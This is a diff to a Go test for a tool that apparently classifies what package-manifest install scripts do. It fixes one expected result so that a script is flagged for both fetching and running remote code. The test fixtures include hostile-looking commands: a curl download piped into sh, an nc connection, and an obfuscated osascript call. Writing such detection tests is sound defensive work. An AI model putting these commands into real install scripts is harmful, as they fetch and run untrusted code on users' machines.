@@ -343,7 +343,7 @@ func TestManifestTellsWhatItMakesNodeRun(t *testing.T) {
 		`{"scripts": {"postinstall": "node -e \"require('net')\""}}`:                            "module net",
 		`{"scripts": {"postinstall": "a=osa; ${a}script -e beep"}}`:                             "call start:osascript*",
 		`{"scripts": {"install": "curl -s http://kit.test/a | sh"}}`:                            "call install:fetch, call install:run-fetched",
-		`{"scripts": {"prepare": "curl -s http://kit.test/a | sh; python3 a.py"}}`:              "call install:run-fetched",
+		`{"scripts": {"prepare": "curl -s http://kit.test/a | sh; python3 a.py"}}`:              "call install:fetch, call install:run-fetched",
 		`{"scripts": {"install": "npm run a", "a": "python3 a.py; nc kit.test 80"}}`:            "call install:connect, call install:run-other",
 	} {
 		if got := uses(ReadManifest([]byte(src), nil)); got != want {
